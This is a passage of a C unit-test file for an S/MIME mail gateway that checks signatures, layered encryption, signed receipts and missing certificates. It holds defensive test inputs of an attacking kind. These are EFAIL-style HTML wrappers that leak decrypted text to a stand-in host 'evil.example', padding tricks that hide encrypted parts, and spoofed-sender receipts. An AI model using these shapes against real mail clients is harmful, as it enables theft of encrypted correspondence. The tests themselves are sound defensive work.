		ck_assert_msg(
		    strstr(w.res.outputs[0].why, relays[_i].says) != NULL, "%d: %s", _i, w.res.outputs[0].why);
	else
		ck_assert_msg(strstr(w.res.outputs[0].why, "(its digest differs) (layers: ") != NULL, "%s",
		    w.res.outputs[0].why);
	buf_clear(&der);
	buf_clear(&part);
	buf_clear(&b);
}
END_TEST

static X509 *wide_cert(EVP_PKEY *key, long serial)
{
	X509 *x = X509_new();
	X509_NAME *n = X509_get_subject_name(x);

	ck_assert_int_eq(ASN1_INTEGER_set(X509_get_serialNumber(x), serial), 1);
	for (int i = 0; i < 500; i++)
		ck_assert_int_eq(
		    X509_NAME_add_entry_by_txt(n, "OU", MBSTRING_ASC, (const unsigned char *)"x", -1, -1, 0), 1);
	ck_assert(X509_gmtime_adj(X509_getm_notBefore(x), 0) && X509_gmtime_adj(X509_getm_notAfter(x), 1000));
	ck_assert(X509_set_issuer_name(x, n) && X509_set_pubkey(x, key) && X509_sign(x, key, EVP_sha256()) > 0);
	return x;
}

/* Thousands of ways to undo what was changed, and a signature with as many certificates as it may have: the search
 * for words ends soon all the same. */
START_TEST(large_signature_small_change)
{
	const struct testcert *who = &w.hospital;
	struct buf der = signed_by(&who, 1, H "one", strlen(H "one"), true), part, b;
	const unsigned char *p = der.p;
	CMS_ContentInfo *c = d2i_CMS_ContentInfo(NULL, &p, (long)der.len);
	unsigned char *all = NULL;
	clock_t begin;
	int n;

	for (long i = 0; i < 60; i++) {
		X509 *x = wide_cert(who->key, 1000 + i);

		ck_assert_int_eq(CMS_add0_cert(c, x), 1);
	}
	n = i2d_CMS_ContentInfo(c, &all);
	buf_reset(&der);
	ck_assert_int_eq(buf_add(&der, all, (size_t)n), 0);
	pipes_wrap("", "signed-data", &der, &part);
	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(
	    buf_adds(&b, PIPES_FIELDS
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
		"boundary=b\r\n\r\n--b\r\n" H "two\r\n"),
	    0);
	for (int i = 0; i < 3800; i++)
		ck_assert_int_eq(buf_adds(&b, "\r\n"), 0);
	ck_assert_int_eq(buf_addf(&b,
			     "\r\n--b\r\nContent-Type: application/pkcs7-signature\r\n"
			     "Content-Transfer-Encoding: base64\r\n%s\r\n--b--\r\n",
			     strstr(buf_str(&part), "\r\n\r\n") + 2),
	    0);
	begin = clock();
	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(shows("X-Postern-Verdict: broken"));
	ck_assert_int_lt((clock() - begin) / CLOCKS_PER_SEC, 20);
	OPENSSL_free(all);
	CMS_ContentInfo_free(c);
	buf_clear(&der);
	buf_clear(&part);
	buf_clear(&b);
}
END_TEST

/* What can be read without its signature is delivered, as broken; under an encryption it is held. */
static const struct {
	const char *after_text, *type, *says;
} lost[] = {
    {"", "application/pkcs7-signature", NULL},
    {"--b\r\nContent-Type: text/plain\r\n\r\nthe list's footer\r\n", "application/pkcs7-signature", "two parts"},
    {"", "text/plain", "protocol"},
};

START_TEST(signature_lost)
{
	const struct testcert *who = &w.hospital;
	struct buf der = signed_by(&who, 1, OCTETS(TEXT_PART), true), part, b, sealed;
	enum { FIELDS = sizeof(PIPES_FIELDS) - 1 };

	pipes_wrap("", "signed-data", &der, &part);
	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(
	    buf_addf(&b,
		PIPES_FIELDS
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
		"boundary=b\r\n\r\n--b\r\n" TEXT_PART "\r\n%s--b\r\nContent-Type: %s\r\n"
		"Content-Transfer-Encoding: base64\r\n%s\r\n--b--\r\n",
		lost[_i].after_text, lost[_i].type, strstr(buf_str(&part), "\r\n\r\n") + 2),
	    0);
	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	if (lost[_i].says == NULL) {
		ck_assert(shows("smime=pass"));
	} else {
		ck_assert(shows("smime=fail") && !shows("smime=pass") && shows("X-Postern-Verdict: broken"));
		ck_assert_msg(strstr(w.res.outputs[0].why, lost[_i].says) != NULL, "%s", w.res.outputs[0].why);
		ck_assert(shows("SECRETWORD") && shows("multipart/signed"));
		ck_assert_uint_eq(w.res.outputs[0].action, POLICY_MARK);
	}
	sealed = pipes_sealed(w.lab.x, b.p + FIELDS, b.len - FIELDS);
	ck_assert_int_eq(
	    run_hospital(JOB_OPEN, &sealed, JUDGE_TRUST_GOOD), lost[_i].says == NULL ? JOB_DONE : JOB_HOLD);
	if (lost[_i].says != NULL)
		ck_assert_msg(strstr(w.res.why, "a layer inside cannot be read") != NULL, "%s", w.res.why);
	buf_clear(&sealed);
	buf_clear(&der);
	buf_clear(&part);
	buf_clear(&b);
}
END_TEST

/* An envelope that says to be certificates is an envelope. */
START_TEST(envelope_as_certificates)
{
	struct buf der, b;

	pipes_envelope(_i == 0 ? w.lab.x : w.foreign.x, OCTETS(TEXT_PART), &der);
	pipes_wrap(PIPES_FIELDS, "certs-only", &der, &b);
	ck_assert_int_eq(run(JOB_CHECK, &b), _i == 0 ? JOB_AS_IT_CAME : JOB_REFUSE);
	buf_clear(&der);
	buf_clear(&b);
}
END_TEST

/* Sealed by a program that writes LF alone: text is read as what was meant, anything else stays what it is. */
static struct buf without_cr(const struct buf *b)
{
	struct buf out;

	buf_init(&out, PIPES_MAX);
	for (size_t i = 0; i < b->len; i++)
		if (b->p[i] != '\r')
			ck_assert_int_eq(buf_addc(&out, b->p[i]), 0);
	return out;
}

START_TEST(line_ends_of_unix)
{
	static const char text[] = "Content-Type: text/plain\n\none\ntwo\n",
			  odd[] = "Content-Type: text/plain\n\none\r\ntwo\n";
	struct buf with = opaque_in("", &w.hospital, _i == 2 ? odd : text, strlen(_i == 2 ? odd : text));
	struct buf inner = without_cr(&with), b;

	if (_i == 1) /* a NUL: no text */
		inner.p[inner.len - 2] = 0;
	b = pipes_sealed(w.lab.x, inner.p, inner.len);
	if (_i == 0) {
		ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_DONE);
		ck_assert(shows("smime=pass") && shows("\r\n\r\none\r\ntwo\r\n"));
	} else {
		ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_HOLD);
		ck_assert_msg(strstr(w.res.why, "LF without CR") != NULL, "%s", w.res.why);
	}
	buf_clear(&with);
	buf_clear(&inner);
	buf_clear(&b);
}
END_TEST

/* One verdict for each; of one content one who is believed suffices, but all signatures must hold. */
START_TEST(several_signers)
{
	const struct testcert *who[] = {&w.foreign, &w.hospital};
	struct buf der = signed_by(who, 2, OCTETS(TEXT_PART), false), b;

	pipes_wrap(PIPES_FIELDS, "signed-data", &der, &b);
	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_UNTRUSTED), JOB_DONE);
	ck_assert(shows("Authentication-Results: auth.lab.example; smime=pass") && shows("smime=policy"));
	ck_assert(shows("CN=hospital.example") && shows("CN=foreign.example"));
	ck_assert(strstr(w.res.layers, "pass") && strstr(w.res.layers, "untrusted"));
	buf_clear(&b);
	/* the last signature damaged */
	der.p[der.len - 3] ^= 1;
	pipes_wrap(PIPES_FIELDS, "signed-data", &der, &b);
	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_DONE);
	ck_assert(shows("smime=fail") && !shows("smime=pass") && strstr(w.res.layers, "fail"));
	buf_clear(&b);
	buf_clear(&der);
}
END_TEST

/* Around an encryption anybody can sign. */
/* ---- a certificate that the message does not bring ---- */

/* The judge knows these certificates: of the author, named by whoever came without one. */
static void judge_knows(const struct testcert *const *who, size_t n, enum judge_trust_state state)
{
	pipes_trust(&w, JUDGE_TRUST_GOOD);
	for (size_t i = 0; i < n; i++) {
		struct judge_known *k = &w.rq.trust.known[i];

		k->cert = pipes_der(who[i]);
		k->state = (uint8_t)state;
		PIPES_COPY(k->why, "pinned, the judge says");
	}
	w.rq.trust.nknown = n;
}

START_TEST(certificate_known_here)
{
	const struct testcert *doctor = &w.hospital, *both[] = {&w.foreign, &w.hospital};
	struct testcert twin =
	    testcert_make(&(struct testcert_spec){.cn = "hospital.example", .key = w.foreign.key, .serial = 7});
	struct buf der = signed_as(&doctor, 1, OCTETS(TEXT_PART), CMS_NOCERTS, NID_pkcs7_data);
	struct buf b = wrapped(PIPES_FIELDS, "signed-data", &der);

	for (int kind = JOB_CHECK; kind <= JOB_OPEN; kind++) {
		struct buf sealed = enveloped_in(PIPES_FIELDS, &b), *m = kind == JOB_CHECK ? &b : &sealed;

		ck_assert_int_eq(run((enum job_kind)kind, m), JOB_NEEDS_TRUST);
		ck_assert_uint_eq(w.res.signers.n, 1);
		ck_assert_uint_eq(w.res.signers.v[0].cert.n, 0);
		ck_assert_uint_gt(w.res.signers.v[0].id.issuer.n, 0);
		ck_assert_uint_gt(w.res.signers.v[0].id.serial.n, 0);
		ck_assert_str_eq(w.res.signers.from, "doctor@hospital.example");
		/* of two, the one that is named */
		judge_knows(both, 2, JUDGE_TRUST_GOOD);
		ck_assert_int_eq(pipes_run_buf(&w, m), JOB_DONE);
		ck_assert(shows("smime=pass") && shows("SECRETWORD") && shows("pinned, the judge says"));
		ck_assert_msg(shows("the certificate is not in the message"), "%s", pipes_text(&w, 0));
		ck_assert_int_eq(w.res.protected_in, kind == JOB_OPEN);
		/* what the judge says of it counts as for every other */
		ck_assert_int_eq(run((enum job_kind)kind, m), JOB_NEEDS_TRUST);
		judge_knows(both + 1, 1, JUDGE_TRUST_UNBOUND);
		ck_assert_int_eq(pipes_run_buf(&w, m), kind == JOB_CHECK ? JOB_DONE : JOB_HOLD);
		ck_assert(kind == JOB_OPEN || (shows("smime=policy") && shows("X-Postern-Verdict: unbound")));
		/* nobody knows it */
		ck_assert_int_eq(run((enum job_kind)kind, m), JOB_NEEDS_TRUST);
		judge_knows(both, 0, JUDGE_TRUST_GOOD);
		ck_assert_int_eq(pipes_run_buf(&w, m), kind == JOB_CHECK ? JOB_DONE : JOB_HOLD);
		ck_assert(kind == JOB_OPEN || (shows("smime=fail") && shows("not in the message, and not known")));
		ck_assert(kind == JOB_CHECK || strstr(w.res.why, "not in the message, and not known"));
		ck_assert_uint_eq(w.res.waits, kind == JOB_OPEN ? QUEUE_WAITS_TRUST : QUEUE_WAITS_ADMIN);
		ck_assert(kind == JOB_CHECK || strcmp(w.res.waits_for, "hospital.example") == 0);
		/* the same name and number, another key */
		const struct testcert *other = &twin;

		ck_assert_int_eq(run((enum job_kind)kind, m), JOB_NEEDS_TRUST);
		judge_knows(&other, 1, JUDGE_TRUST_GOOD);
		ck_assert_int_eq(pipes_run_buf(&w, m), kind == JOB_CHECK ? JOB_DONE : JOB_HOLD);
		ck_assert(kind == JOB_OPEN || (shows("smime=fail") && !shows("smime=pass")));
		/* the store could not be asked: it waits */
		ck_assert_int_eq(run((enum job_kind)kind, m), JOB_NEEDS_TRUST);
		judge_knows(both, 0, JUDGE_TRUST_GOOD);
		w.rq.trust.v[0].state = JUDGE_TRUST_TEMP;
		ck_assert_int_eq(pipes_run_buf(&w, m), JOB_LATER);
		w.rq.released = true;
		ck_assert_int_eq(pipes_run_buf(&w, m), JOB_DONE);
		ck_assert(!shows("smime=pass"));
		/* what is remembered of earlier mail has no such answer */
		pipes_job(&w, (enum job_kind)kind);
		w.rq.have_trust = true;
		w.rq.trust.n = 1;
		memcpy(w.rq.trust.v[0].sha256, w.hospital.sha256, sizeof(w.rq.trust.v[0].sha256));
		PIPES_COPY(w.rq.trust_from, "doctor@hospital.example");
		ck_assert_int_eq(pipes_run_buf(&w, m), JOB_NEEDS_TRUST);
		buf_clear(&sealed);
	}
	buf_clear(&b);
	testcert_free(&twin);
}
END_TEST

/* One of two signers without a certificate: both must hold, whoever is known. */
START_TEST(certificate_of_one_known)
{
	const struct testcert *both[] = {&w.hospital, &w.foreign};
	struct buf der = signed_as(both, 2, OCTETS(TEXT_PART), CMS_NOCERTS, NID_pkcs7_data);
	struct buf b = wrapped(PIPES_FIELDS, "signed-data", &der);

	for (size_t known = 0; known <= 2; known++) {
		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_NEEDS_TRUST);
		ck_assert_uint_eq(w.res.signers.n, 2);
		judge_knows(both, known, JUDGE_TRUST_GOOD);
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
		ck_assert_int_eq(shows("smime=pass"), known == 2);
	}
	buf_clear(&b);
}
END_TEST

/* A message that a person's program signed or encrypted, wrapped by the gateway on its way: said, and handed on. */
START_TEST(wrapped_message_of_a_person)
{
	const struct testcert *person = &w.foreign;
	struct buf der = signed_by(&person, 1, OCTETS(TEXT_PART), false), env;
	struct buf signed_one = wrapped(PIPES_FIELDS, "signed-data", &der), sealed_one, in, b, outer;
	const struct buf *inner;

	pipes_envelope(w.foreign.x, TEXT_PART, sizeof(TEXT_PART) - 1, &env);
	sealed_one = wrapped(PIPES_FIELDS, "enveloped-data", &env);
	for (int sealed = 0; sealed < 2; sealed++) {
		inner = sealed ? &sealed_one : &signed_one;
		buf_init(&in, PIPES_MAX);
		ck_assert_int_eq(buf_addf(&in, "Content-Type: message/rfc822; forwarded=no\r\n\r\n%s",
				     buf_str((struct buf *)(uintptr_t)inner)),
		    0);
		b = opaque_in(PIPES_FIELDS, &w.hospital, in.p, in.len);
		pipes_job(&w, JOB_CHECK);
		w.rq.encrypted_part = POLICY_CHOICE_REFUSE;
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_NEEDS_TRUST);
		trust_hospital(JUDGE_TRUST_UNTRUSTED);
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
		ck_assert(shows("smime=pass") && shows("X-Postern-Verdict: signed"));
		ck_assert_msg(shows("X-Postern-Part: message application/pkcs7-mime; the wrapped message is"), "%s",
		    pipes_text(&w, 0));
		ck_assert(shows(sealed ? "not opened" : "not checked"));
		ck_assert_ptr_nonnull(strstr(w.res.layers, sealed ? "[message=encrypted]" : "[message=signed]"));
		ck_assert(shows(sealed ? "smime-type=enveloped-data" : "smime-type=signed-data"));
		buf_clear(&b);
		/* encrypted to us, and the gateway did not sign */
		outer = enveloped_in(PIPES_FIELDS, &in);
		pipes_job(&w, JOB_OPEN);
		w.rq.in_rules[3] = POLICY_MARK;
		w.rq.encrypted_part = POLICY_CHOICE_REFUSE;
		ck_assert_int_eq(pipes_run_buf(&w, &outer), JOB_DONE);
		ck_assert(!shows("smime=pass") && shows("X-Postern-Part: message "));
		ck_assert_int_eq(shows("X-Postern-Verdict: partly-signed"), !sealed);
		buf_clear(&outer);
		buf_clear(&in);
	}
	buf_clear(&signed_one);
	buf_clear(&sealed_one);
}
END_TEST

/* ---- signed receipts (RFC 2634 2) ---- */

#define RECEIPT                                                                                                      \
	"\x30\x12\x02\x01\x01\x04\x05hello\x04\x06"                                                                  \
	"ABCDEF"

START_TEST(signed_receipt)
{
	const struct testcert *doctor = &w.hospital;
	struct buf der = signed_as(&doctor, 1, OCTETS(RECEIPT), 0, NID_id_smime_ct_receipt);
	struct buf b = wrapped(PIPES_FIELDS, "signed-receipt", &der);
	const char *body = strstr(buf_str(&b), "\r\n\r\n");

	for (int kind = JOB_CHECK; kind <= JOB_OPEN; kind++) {
		struct buf sealed = enveloped_in(PIPES_FIELDS, &b), *m = kind == JOB_CHECK ? &b : &sealed;

		ck_assert_int_eq(run_hospital((enum job_kind)kind, m, JUDGE_TRUST_GOOD), JOB_DONE);
		ck_assert(
		    shows("smime=pass") && shows("smime-type=signed-receipt") && shows("covers the receipt in it"));
		ck_assert_ptr_nonnull(strstr(pipes_text(&w, 0), body));
		ck_assert_ptr_nonnull(strstr(w.res.layers, "signed-receipt(sha256)=pass"));
		ck_assert_int_eq(run_trusted((enum job_kind)kind, m, JUDGE_TRUST_UNTRUSTED),
		    kind == JOB_CHECK ? JOB_DONE : JOB_HOLD);
		ck_assert(kind == JOB_OPEN || (shows("smime=policy") && strstr(pipes_text(&w, 0), body)));
		buf_clear(&sealed);
	}
	buf_clear(&b);
}
END_TEST

/* The fields on it are not signed: they are nobody's word, whatever they say of themselves. */
START_TEST(receipt_vouches_for_no_field)
{
	static const char *const types[] = {"signed-receipt; hp=\"cipher\"", "signed-receipt; hp=\"clear\"",
	    "signed-receipt; protected-headers=\"v1\""};
	const struct testcert *doctor = &w.hospital;
	struct buf der, b, sealed;

	for (size_t i = 0; i < 3; i++) {
		der = signed_as(&doctor, 1, OCTETS(RECEIPT), 0, NID_id_smime_ct_receipt);
		b = wrapped("From: ceo@hospital.example\r\nTo: bob@lab.example\r\nSubject: pay\r\n", types[i], &der);
		sealed =
		    enveloped_in("From: doctor@hospital.example\r\nTo: eve@lab.example\r\nSubject: outside\r\n", &b);
		ck_assert_msg(run_hospital(JOB_OPEN, &sealed, JUDGE_TRUST_GOOD) == JOB_DONE, "%s", w.res.why);
		ck_assert(shows("Subject: outside") && !shows("Subject: pay") && !shows("ceo@") &&
			  !shows("X-Postern-Recipients"));
		buf_clear(&b);
		buf_clear(&sealed);
	}
}
END_TEST

/* Other types of content are still refused, and so is a receipt beside its content. */
START_TEST(other_content_types)
{
	const struct testcert *doctor = &w.hospital;
	static const int types[] = {NID_id_smime_ct_TSTInfo, NID_id_smime_ct_authData, NID_pkcs7_enveloped};
	struct buf der, b;

	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		der = signed_as(&doctor, 1, OCTETS(RECEIPT), 0, types[i]);
		b = wrapped(PIPES_FIELDS, "signed-receipt", &der);
		ck_assert_int_eq(run_trusted(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_REFUSE);
		ck_assert_ptr_nonnull(strstr(w.res.pr.text, "something else than data"));
		buf_clear(&b);
	}
	der = signed_as(&doctor, 1, OCTETS(RECEIPT), CMS_DETACHED, NID_id_smime_ct_receipt);
	b = wrapped(PIPES_FIELDS, "signed-receipt", &der);
	ck_assert_int_eq(run_trusted(JOB_CHECK, &b, JUDGE_TRUST_GOOD), JOB_REFUSE);
	buf_clear(&b);
}
END_TEST

START_TEST(signed_outside_only)
{
	struct buf text, env, b;

	buf_init(&text, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
	env = enveloped_in("", &text);
	b = opaque_in(PIPES_FIELDS, &w.hospital, env.p, env.len);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_HOLD);
	ck_assert_msg(strstr(w.res.why, "signed outside only") != NULL, "%s", w.res.why);
	ck_assert(!w.res.protected_in && !w.res.open_failed);
	memset(w.rq.in_rules, POLICY_DELIVER, sizeof(w.rq.in_rules));
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
	ck_assert(!shows("smime=pass") && shows("X-Postern-Verdict: encrypted") && !w.res.protected_in);
	buf_clear(&text);
	buf_clear(&env);
	buf_clear(&b);
}
END_TEST

START_TEST(triple)
{
	struct buf in = opaque_in("", &w.hospital, OCTETS(TEXT_PART)), env = enveloped_in("", &in),
		   b = opaque_in(PIPES_FIELDS, &w.foreign, env.p, env.len);

	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_AS_IT_CAME);
	ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_UNBOUND), JOB_DONE);
	ck_assert(shows("X-Postern-Verdict: sealed") && shows("smime=pass") && w.res.protected_in);
	ck_assert_str_eq(w.res.layers, "signed(sha256)=unbound>enveloped(aes-256-cbc)>signed(sha256)=pass");
	ck_assert(shows("X-Postern-Layer: 1 signed") && shows("X-Postern-Layer: 2 enveloped") &&
		  shows("X-Postern-Layer: 3 signed"));
	/* the outer one fails: all fails */
	buf_clear(&b);
	b = opaque_in(PIPES_FIELDS, &w.foreign, env.p, env.len);
	buf_clear(&env);
	pipes_unwrap(&b, &env);
	env.p[env.len - 3] ^= 1;
	buf_clear(&b);
	pipes_wrap(PIPES_FIELDS, "signed-data", &env, &b);
	ck_assert_int_eq(run_hospital(JOB_OPEN, &b, JUDGE_TRUST_GOOD), JOB_HOLD);
	buf_clear(&in);
	buf_clear(&env);
	buf_clear(&b);
}
END_TEST

/* The author signs around what a stranger signed: the stranger's is the signature of the content. */
START_TEST(outer_signer_lends_nothing)
{
	struct buf in = opaque_in("", &w.foreign, OCTETS(TEXT_PART)),
		   b = opaque_in(PIPES_FIELDS, &w.hospital, in.p, in.len);

	ck_assert_int_eq(run_hospital(JOB_CHECK, &b, JUDGE_TRUST_UNTRUSTED), JOB_DONE);
	ck_assert(!shows("smime=pass") && shows("X-Postern-Verdict: untrusted"));
	buf_clear(&in);
	buf_clear(&b);
}
END_TEST

static struct buf compressed_in(const char *fields, const void *p, size_t n)
{
	BIO *in = BIO_new_mem_buf(p, (int)n);
	CMS_ContentInfo *c = CMS_compress(in, NID_zlib_compression, CMS_BINARY);
	struct buf der;

	BIO_free(in);
	buf_init(&der, PIPES_MAX);
	if (c != NULL) {
		unsigned char *q = NULL;
		int k = i2d_CMS_ContentInfo(c, &q);

		ck_assert_int_eq(buf_add(&der, q, (size_t)k), 0);
		OPENSSL_free(q);
		CMS_ContentInfo_free(c);
	}
	return der.len == 0 ? der : wrapped(fields, "compressed-data", &der);
}

/* Within the limits of nesting, wherever it stands. Where OpenSSL has no zlib nothing can be made here; cms_compress
 * has tests of its own. */
START_TEST(compressed)
{
	struct buf in = opaque_in("", &w.hospital, OCTETS(TEXT_PART)), c = compressed_in("", in.p, in.len), env, b;

	if (c.len > 0) {
		env = enveloped_in(PIPES_FIELDS, &c);
		ck_assert_int_eq(run(JOB_CHECK, &env), JOB_AS_IT_CAME);
		ck_assert_int_eq(run_hospital(JOB_OPEN, &env, JUDGE_TRUST_GOOD), JOB_DONE);
		ck_assert_str_eq(w.res.layers, "enveloped(aes-256-cbc)>compressed>signed(sha256)=pass");
		b = compressed_in(PIPES_FIELDS, OCTETS(TEXT_PART));
		ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
		ck_assert(shows("SECRETWORD") && shows("X-Postern-Verdict: clear") && shows("smime=none"));
		buf_clear(&b);
		buf_clear(&env);
	}
	buf_clear(&c);
	buf_clear(&in);
}
END_TEST

#define MIXED PIPES_FIELDS "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"

START_TEST(partly_signed)
{
	struct buf in = opaque_in("", &w.hospital, OCTETS(TEXT_PART)), b;

	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(buf_addf(&b, MIXED "--m\r\n%s\r\n--m\r\n\r\nfooter\r\n--m--\r\n", buf_str(&in)), 0);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
	ck_assert(shows("smime=neutral") && shows("X-Postern-Verdict: partly-signed") && shows("part 1 "));
	buf_reset(&b);
	ck_assert_int_eq(
	    buf_addf(&b, MIXED "--m\r\n\r\nsee below\r\n--m\r\nContent-Type: message/rfc822\r\n\r\n%s%s\r\n--m--\r\n",
		PIPES_FIELDS, buf_str(&in)),
	    0);
	ck_assert_int_eq(run(JOB_CHECK, &b), JOB_DONE);
	ck_assert(shows("X-Postern-Verdict: partly-signed") && shows("in an attached message"));
	buf_clear(&in);
	buf_clear(&b);
}
END_TEST

/* EFAIL's shapes; %s is an enveloped entity, with a false label or without one where a reader goes by the content
 * alone. */
static const struct {
	const char *shape;
	bool found;
} shapes[] = {
    {"--m\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--m\r\n%s\r\n--m\r\nContent-Type: "
     "text/html\r\n\r\n\">\r\n--m--\r\n",
	true},
    {"--m\r\n%s\r\n--m--\r\n", true},
    {"--m\r\n%1$s\r\n--m\r\n%1$s\r\n--m--\r\n", true},
    {"--m\r\n%s\r\n--m\r\nContent-Type: multipart/mixed\r\n\r\n", true}, /* cannot be followed further */
    {"--m\r\nContent-Type: multipart/mixed\r\n\r\nx\r\n--m\r\n%s\r\n--m--\r\n", true},
    {"--m\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n--m--\r\n", false}, /* a message attached */
    {"--m\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data; name=x.pdf.p7m\r\n\r\n0\r\n--m--\r\n",
	false},
    {"--m\r\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=x.p7c\r\nContent-Transfer-Encoding: "
     "base64\r\n\r\nMIAGCSqGSIb3DQEHAqCA\r\n--m--\r\n",
	false},
};

START_TEST(encrypted_part)
{
	struct buf text, env, b;
	char *label;

	buf_init(&text, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
	env = enveloped_in("", &text);
	for (int said = 0; said < 3; said++) {
		label = strstr((char *)env.p, "smime-type=enveloped-data");
		if (said == 1 && label != NULL)
			memcpy(label, "smime-type=certs-only    ", 25);
		label = strstr((char *)env.p, "smime-type=");
		if (said == 2 && label != NULL)
			memcpy(label, "x", 1); /* xmime-type=... */
		buf_init(&b, PIPES_MAX);
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
		ck_assert_int_eq(buf_adds(&b, MIXED), 0);
		ck_assert_int_eq(buf_addf(&b, shapes[_i].shape, buf_str(&env)), 0);
#pragma GCC diagnostic pop
		pipes_job(&w, JOB_CHECK);
		w.rq.encrypted_part = POLICY_CHOICE_REFUSE;
		ck_assert_int_eq(pipes_run_buf(&w, &b), shapes[_i].found ? JOB_REFUSE : JOB_DONE);
		if (shapes[_i].found)
			ck_assert_msg(
			    strstr(w.res.pr.text, "encrypted part") || strstr(w.res.pr.text, "is encrypted"), "%s",
			    w.res.pr.text);
		w.rq.encrypted_part = POLICY_CHOICE_HOLD;
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
		ck_assert_int_eq(w.res.outputs[0].action == POLICY_HOLD, shapes[_i].found);
		ck_assert(!shows("SECRETWORD")); /* never opened */
		if (strstr(shapes[_i].shape, "certs-only") != NULL)
			ck_assert(shows("X-Postern-Verdict: clear"));
		w.rq.released = true;
		ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
		ck_assert(!shows("SECRETWORD"));
		buf_clear(&b);
	}
	buf_clear(&env);
	buf_clear(&text);
}
END_TEST

/* A label that says something harmless, or blanks that push the content away from where it is looked for. */
START_TEST(encrypted_part_hidden)
{
	struct buf text, env, b;
	char *label, *body;

	buf_init(&text, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
	env = enveloped_in("", &text);
	label = strstr((char *)env.p, "smime-type=enveloped-data");
	ck_assert_ptr_nonnull(label);
	memcpy(label, _i == 0 ? "smime-type=certs-only    " : "xmime-type=enveloped-data", 25);
	if (_i == 2) /* 30 80: the indefinite length becomes one of eighteen octets, nearly all of them 0 */
		memcpy(strstr((char *)env.p, "\r\n\r\n") + 4, "MJIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", 40);
	body = strstr((char *)env.p, "\r\n\r\n") + 4;
	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&b, MIXED "--m\r\nContent-Type: text/html\r\n\r\n<img src=\"\r\n--m\r\n"), 0);
	ck_assert_int_eq(buf_add(&b, env.p, (size_t)(body - (char *)env.p)), 0);
	for (int i = 0; _i == 1 && i < 200; i++)
		ck_assert_int_eq(buf_adds(&b, "\r\n"), 0);
	ck_assert_int_eq(buf_adds(&b, body), 0);
	ck_assert_int_eq(buf_adds(&b, "\r\n--m--\r\n"), 0);
	pipes_job(&w, JOB_CHECK);
	w.rq.encrypted_part = POLICY_CHOICE_REFUSE;
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_REFUSE);
	ck_assert_msg(strstr(w.res.pr.text, "part 2 is encrypted") != NULL, "%s", w.res.pr.text);
	buf_clear(&b);
	buf_clear(&env);
	buf_clear(&text);
}
END_TEST

/* A bag of certificates, which is SignedData without a signer, is nothing of that. */
START_TEST(certificates_alone)
{
	CMS_ContentInfo *c = CMS_sign(NULL, NULL, NULL, NULL, CMS_PARTIAL | CMS_DETACHED);
	unsigned char *p = NULL;
	struct buf der, part, b;
	int n;

	ck_assert(c != NULL && CMS_add1_cert(c, w.hospital.x) == 1);
	n = i2d_CMS_ContentInfo(c, &p);
	buf_init(&der, PIPES_MAX);
	ck_assert_int_eq(buf_add(&der, p, (size_t)n), 0);
	part = wrapped("", "certs-only", &der);
	buf_init(&b, PIPES_MAX);
	ck_assert_int_eq(
	    buf_addf(&b, MIXED "--m\r\n\r\nmy certificate\r\n--m\r\n%s\r\n--m--\r\n", buf_str(&part)), 0);
	pipes_job(&w, JOB_CHECK);
	w.rq.encrypted_part = POLICY_CHOICE_REFUSE;
	ck_assert_int_eq(pipes_run_buf(&w, &b), JOB_DONE);
	ck_assert(shows("X-Postern-Verdict: clear") && !shows("X-Postern-Part"));
	OPENSSL_free(p);
	CMS_ContentInfo_free(c);
	buf_clear(&part);
	buf_clear(&b);
}
END_TEST

/* The same under an encryption and a good signature: held, whatever is configured to be refused. */
START_TEST(encrypted_part_inside)
{
	struct buf text, env, in, sig, b;

	buf_init(&text, PIPES_MAX);
	ck_assert_int_eq(buf_adds(&text, TEXT_PART), 0);
	env = enveloped_in("", &text);
	buf_init(&in, PIPES_MAX);
	ck_assert_int_eq(
	    buf_addf(&in, "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nx\r\n--m\r\n%s\r\n--m--\r\n",
		buf_str(&env)),
	    0);
	sig = opaque_in("", &w.hospital, in.p, in.len);
